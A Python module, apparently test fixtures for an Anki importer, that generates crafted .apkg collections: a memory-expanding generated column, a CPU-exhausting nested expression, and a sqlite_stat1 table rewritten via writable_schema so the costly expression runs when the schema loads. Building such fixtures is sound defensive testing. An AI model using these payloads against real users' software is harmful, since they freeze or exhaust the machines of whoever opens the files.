"""Files that call themselves Anki collections and are made to hurt whoever reads them."""

import io
import sqlite3
import zipfile
from contextlib import closing

NOTES = "CREATE TABLE notes (id integer primary key, guid text, flds text);"
CARDS = "CREATE TABLE cards (id integer primary key, nid, type, queue, ivl, data);"
REVLOG = "CREATE TABLE revlog (id integer primary key, cid, ease, type);"

ROWS = """
    INSERT INTO notes VALUES (1, 'a', 'stone' || char(31) || 'a rock'), (2, 'b', 'reason');
    INSERT INTO cards VALUES (1, 1, 2, 2, 40, ''), (2, 2, 2, 2, 3, '');
"""


def collection(script: str) -> bytes:
    """The SQLite file that *script* makes."""
    with closing(sqlite3.connect(":memory:")) as database:
        database.executescript(script)
        return database.serialize()


def package(data: bytes, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An .apkg with the collection *data*."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        archive.writestr("collection.anki21", data)
    return buffer.getvalue()


def honest() -> bytes:
    """A package with two notes, one of them known."""
    return package(collection(NOTES + CARDS + ROWS))


def swelling(rows: int = 400) -> bytes:
    """A package of some 1.5 KB whose generated column is a megabyte long in each of its rows."""
    script = f"""
        CREATE TABLE notes (
            id integer primary key, guid text,
            flds text GENERATED ALWAYS AS (printf('%.*c', 1000000, 'x')) VIRTUAL
        );
        {CARDS}
        WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n WHERE id < {rows})
        INSERT INTO notes (id, guid) SELECT id, 'g' FROM n;
    """
    return package(collection(script))


def brooding(depth: int = 12) -> bytes:
    """A package of less than 1 KB whose one row takes many seconds to be computed."""
    text = "printf('%.*c', 400000, 'a')"
    wanted = "printf('%.*c', 200000, 'a') || 'b'"
    inner = " + ".join([f"instr({text}, {wanted})"] * depth)
    script = f"""
        CREATE TABLE notes (
            id integer primary key, guid text, flds text GENERATED ALWAYS AS ({inner}) VIRTUAL
        );
        {CARDS}
        INSERT INTO notes (id, guid) VALUES (1, 'g');
    """
    return package(collection(script))


def patient_statistics() -> bytes:
    """The same trap in statistics, which SQLite reads together with the schema."""
    script = f"""
        {NOTES} {CARDS} {ROWS}
        CREATE INDEX by_guid ON notes (guid);
        ANALYZE;
        PRAGMA writable_schema = ON;
        UPDATE sqlite_master SET sql = 'CREATE TABLE sqlite_stat1(tbl, idx, stat AS
            (instr(printf(''%.*c'', 400000, ''a''), printf(''%.*c'', 200000, ''a'') || ''b'')))'
            WHERE name = 'sqlite_stat1';
    """
    return package(collection(script))
